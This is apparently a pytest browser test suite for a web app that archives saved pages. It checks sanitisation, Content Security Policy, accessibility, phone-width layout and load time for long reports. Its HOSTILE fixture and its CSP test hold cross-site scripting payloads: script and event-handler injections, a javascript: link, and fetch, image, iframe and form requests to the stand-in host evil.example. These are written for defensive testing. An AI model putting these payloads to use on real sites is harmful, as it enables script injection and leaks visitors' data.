"""What only a real browser can tell: nothing runs or is asked for, no barrier, no page too wide, long reports soon."""

import json
from pathlib import Path
from typing import Any

import pytest
from web_browser import arriving, page_in, running
from web_reports import AGAINST, HARBOUR, SECOND, make_record, saved

from onrecord.store import Record

pytestmark = pytest.mark.slow

VENDOR = Path(__file__).parent / "vendor"
HOSTILE = (
    '<script>document.title="owned";fetch("http://evil.example/s")</script>'
    '<img src="http://evil.example/a.png" onerror="alert(1)">'
    '<style>@import url("http://evil.example/a.css");</style><link rel="stylesheet" href="http://evil.example/b.css">'
    '<iframe src="http://evil.example/f"></iframe><svg onload="alert(1)"><image href="http://evil.example/i.png"/></svg>'
    '<div style="background:url(http://evil.example/d.png)" onclick="alert(1)">styled</div><object data="http://evil.example/o"></object>'
    '<meta http-equiv="refresh" content="0;url=http://evil.example/r">'
    '<a href="javascript:alert(1)" ping="http://evil.example/p">click here</a>'
    '<video src="http://evil.example/v.mp4" autoplay></video><form action="http://evil.example/q"><button>send</button></form>'
)


def test_a_hostile_page_runs_nothing_and_asks_for_nothing(chromium: Any, tmp_path: Path) -> None:
    page_bytes = saved("A page", "“We were told at once,” said Ada Okafor.", HOSTILE)
    make_record(tmp_path / "case.db", [("page.html", page_bytes)])
    with running(tmp_path / "case.db") as address:
        page = page_in(chromium, address)
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        page.on("dialog", lambda dialog: asked.append("dialog"))
        page.goto("/")
        with arriving(page):
            page.get_by_role("link", name="A page").click()
        with arriving(page):
            page.get_by_role("link", name="The saved page").click()
        page.frame_locator("iframe").locator("mark").first.wait_for()
        frame = page.frame(name="kept")
        frame.get_by_text("click here").click()
        frame.get_by_text("styled").click()
        with Record.open(tmp_path / "case.db", read_only=True) as record:
            statement = record.shown.statements_of(record.shown.reports(1)[0].id)[0].statement.id
        for path in (
            f"/trace?q={statement}",
            f"/statement/{statement}",
            "/ask?q=told",
            "/relations?kind=any",
            "/review",
        ):
            page.goto(path)
        page.goto(f"/trace.svg?q={statement}")
        page.go_back()
        page.goto("/")
        with arriving(page):
            page.get_by_role("link", name="A page").click()
        with arriving(page):
            page.get_by_role("link", name="The saved page").click()
        page.goto(page.frame(name="kept").url)
        # Idle: nothing was asked for during half a second.
        page.wait_for_load_state("networkidle")
        assert page.title() == "A page"
        assert page.locator("script, style, img, iframe, svg, object, form, video").count() == 0
        assert asked and all(url.startswith(address) for url in asked), asked


def test_a_policy_stops_what_a_sanitiser_would_miss(chromium: Any, address: str) -> None:
    page = page_in(chromium, address)
    answered: list[str] = []
    # A blocked request is announced too, but never answered.
    page.on("response", lambda response: answered.append(response.url))
    page.goto("/")
    with page.expect_console_message(lambda said: "Content Security Policy" in said.text and "img" in said.text):
        page.evaluate(
            """document.body.insertAdjacentHTML("beforeend",
            '<img src="http://evil.example/a.png"><b onclick="window.ran = 1">x</b>')"""
        )
    page.evaluate(
        "const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s)"
    )
    page.evaluate("document.querySelector('body > b').click()")
    assert page.evaluate("window.ran") is None
    assert not [url for url in answered if "evil" in url]


def addresses(place: Path) -> list[str]:
    with Record.open(place, read_only=True) as record:
        report = record.shown.reports(1, 1)[0].id
        statement = record.shown.statements_of(report)[0].statement.id
        speaker = record.shown.speakers(1)[0][0].id
    pages = ["/", f"/report/{report}", f"/report/{report}/page", f"/statement/{statement}", "/ask", "/ask?q=ramp"]
    pages += ["/ask?q=zebra", "/speakers", f"/speaker/{speaker}", "/review", "/add", "/nothing", "/relations?kind=any"]
    pages += [f"/report/{report}?at=10-40", "/silence", "/silence?topic=ministry", "/trace", "/trace?q=ramp", "/check"]
    return [*pages, f"/trace?q={statement}", "/silence?topic=the"]


def checked(page: Any) -> None:
    """From any page to the findings on a draft."""
    page.goto("/check")
    page.fill("#text", "“The ramp was fit to be loaded,” said Ada Okafor. “It never rains here,” said Cleo Tan.")
    with arriving(page):
        page.click("#check button")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_no_page_has_a_serious_barrier(chromium: Any, tmp_path: Path, scheme: str) -> None:
    place = tmp_path / "case.db"
    make_record(place, [("harbour.html", HARBOUR), ("second.html", SECOND), ("against.html", AGAINST)])
    axe = (VENDOR / "axe-core" / "axe.min.js").read_text(encoding="utf-8")
    with running(place) as address:
        page = page_in(chromium, address, color_scheme=scheme, bypass_csp=True)
        found = []
        for path in [*addresses(place), "checked"]:
            if path == "checked":
                checked(page)
            else:
                page.goto(path)
            page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
            page.evaluate(axe)
            result = json.loads(
                page.evaluate("axe.run({iframes: false}).then((found) => JSON.stringify(found.violations))")
            )
            found += [
                (path, one["id"], one["nodes"][0]["html"][:120], one["nodes"][0].get("failureSummary", "")[:200])
                for one in result
                if one["impact"] in ("serious", "critical")
            ]
        assert found == []


def test_no_page_is_wider_than_a_telephone(chromium: Any, place: Path) -> None:
    with running(place) as address:
        page = page_in(chromium, address, viewport={"width": 390, "height": 844})
        for path in addresses(place):
            page.goto(path)
            assert page.evaluate("document.documentElement.scrollWidth") <= 390, path
        checked(page)
        assert page.evaluate("document.documentElement.scrollWidth") <= 390


def test_a_report_of_twenty_thousand_words_can_be_walked_soon(chromium: Any, tmp_path: Path) -> None:
    filler = "and so it went on that day in the harbour while the rain came down " * 3
    many = [f"“The ramp was unfit, sheet {n},” said Ada Okafor. {filler}" for n in range(430)]
    make_record(tmp_path / "long.db", [("long.html", saved("Long", *many))])
    with running(tmp_path / "long.db") as address, Record.open(tmp_path / "long.db", read_only=True) as record:
        report = record.shown.reports(1)[0].id
        assert len(record.document(report).text.split()) > 20_000
        page = page_in(chromium, address)
        page.goto("/")
        page.goto(f"/report/{report}")
        timing = page.evaluate("JSON.stringify(performance.getEntriesByType('navigation')[0])")
        interactive = json.loads(timing)["domInteractive"]
        page.keyboard.press("j")
        assert page.evaluate("document.activeElement.classList.contains('card')")
        # The budget is one second on a quiet machine; a busy one may take several times as long.
        assert interactive < 5_000
        print(f"interactive after {interactive:.0f} ms")  # noqa: T201
